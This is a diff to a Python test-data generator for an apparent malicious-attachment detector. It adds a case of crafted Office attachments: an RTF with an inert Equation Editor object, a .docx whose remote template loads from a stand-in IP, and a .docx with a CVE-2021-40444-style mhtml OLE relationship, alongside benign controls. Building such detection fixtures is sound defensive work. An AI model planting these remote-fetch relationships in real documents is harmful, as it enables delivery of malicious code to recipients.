@@ -25,6 +25,10 @@ Cases (the expect.yaml of each folder says what is asserted):
               retrieval of it.
   xlm         SMTP: Q3-report.xls (an Excel 97-2003 workbook with a very hidden Excel 4.0
               macro sheet, no VBA) and Q3-data.xls (worksheets only, one hidden).
+  active      SMTP: quote.rtf (an RTF with an Equation Editor object), order.docx (a remote
+              template over HTTP), invoice.docx (an OLE object relationship to an mhtml: URL,
+              the CVE-2021-40444 shape), and the benign letter.docx (a template on the local
+              disk) and figures.rtf (an RTF with an embedded Excel 97-2003 workbook).
 The fuzz seeds are the attachments built here plus the three T6 attachments of demo/demo.pcap
 (taken out of its SMTP streams), each behind the fuzz target's 3-byte header.
 """
@@ -254,6 +258,43 @@ def xlsx(rng):
                            ("_rels/.rels", (RELS % "xl/workbook.xml").encode()),
                            ("xl/workbook.xml", wb.encode())], rng=rng,
                           mtime=(2024, 4, 22, 9, 25, 0))
+
+
+REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def docx_with_rel(rng, part_rels, rel_type, target):
+    """A .docx whose part_rels (e.g. word/_rels/settings.xml.rels) holds one external
+    relationship of rel_type to target."""
+    ct = (CT_HEAD + '<Override PartName="/word/document.xml" ContentType="application/vnd.'
+          'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
+    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:document xmlns:w="http:'
+           '//schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Order'
+           '</w:t></w:r></w:p></w:body></w:document>')
+    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns='
+            '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+            'Type="%s%s" Target="%s" TargetMode="External"/></Relationships>'
+            % (REL_NS, rel_type, target))
+    return pg.zip_archive([("[Content_Types].xml", ct.encode()),
+                           ("_rels/.rels", (RELS % "word/document.xml").encode()),
+                           ("word/document.xml", doc.encode()),
+                           ("word/settings.xml", b'<w:settings xmlns:w="http://schemas.'
+                            b'openxmlformats.org/wordprocessingml/2006/main"/>'),
+                           (part_rels, rels.encode())], rng=rng,
+                          mtime=(2024, 4, 22, 9, 40, 0))
+
+
+def rtf_with_object(cls, native, text="Quotation"):
+    """An RTF document with one embedded OLE 1.0 object ([MS-OLEDS] 2.2.4/2.2.5) of class cls,
+    hex-encoded in \\objdata as Word writes it."""
+    c = cls.encode() + b"\0"
+    obj = (struct.pack("<III", 0x501, 2, len(c)) + c + struct.pack("<III", 0, 0, len(native)) +
+           native).hex()
+    lines = "\r\n".join(obj[i:i + 128] for i in range(0, len(obj), 128))
+    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0 %s\\par "
+            "{\\object\\objemb\\objupdate{\\*\\objclass %s}\\objw2000\\objh800"
+            "{\\*\\objdata\r\n%s}{\\result{\\pict\\wmetafile8 0100}}}\\par}\r\n"
+            % (text, cls, lines)).encode()
 
 
 def xls_with_macros(rng):
@@ -527,8 +568,37 @@ def case_xlm():
     return g, atts
 
 
+def case_active():
+    g = Gen(67)
+    r = g.rng
+    # an Equation Editor object's native data: an EQNOLEFILEHDR and the start of an MTEF
+    # record, inert (no shellcode: the detector judges the class, not the bytes)
+    eq = struct.pack("<HIHII", 0x1C, 0x00020000, 0xC49E, 0xA9, 0) + bytes(r.randrange(256)
+                                                                          for _ in range(48))
+    atts = [("quote.rtf", "application/rtf", rtf_with_object("Equation.3", eq)),
+            ("order.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
+             "document", docx_with_rel(r, "word/_rels/settings.xml.rels", "attachedTemplate",
+                                       "http://203.0.113.66/templates/order.dotm")),
+            ("invoice.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
+             "document", docx_with_rel(r, "word/_rels/document.xml.rels", "oleObject",
+                                       "mhtml:http://203.0.113.66/inv.html!x-usc:"
+                                       "http://203.0.113.66/inv.html")),
+            ("letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml."
+             "document", docx_with_rel(r, "word/_rels/settings.xml.rels", "attachedTemplate",
+                                       "file:///C:/Users/kato/AppData/Roaming/Microsoft/"
+                                       "Templates/Letter.dotm")),
+            ("figures.rtf", "application/rtf",
+             rtf_with_object("Excel.Sheet.8", xls_sheets(r, [(b"Sheet1", 0, 0)]),
+                             "Quarterly figures"))]
+    msg = message(r, "sales@partner-c.example", "takahashi@" + DOMAIN, "Quotation and order",
+                  "Please find the quotation and the order form attached.", atts)
+    g.smtp("198.51.100.61", "mx.partner-c.example", "sales@partner-c.example",
+           ["takahashi@" + DOMAIN], [msg])
+    return g, atts
+
+
 CASES = {"office": case_office, "exec": case_exec, "containers": case_containers,
-         "http": case_http, "benign": case_benign, "xlm": case_xlm}
+         "http": case_http, "benign": case_benign, "xlm": case_xlm, "active": case_active}
 
 
 # ----------------------------------------------------------------------------- fuzz seeds
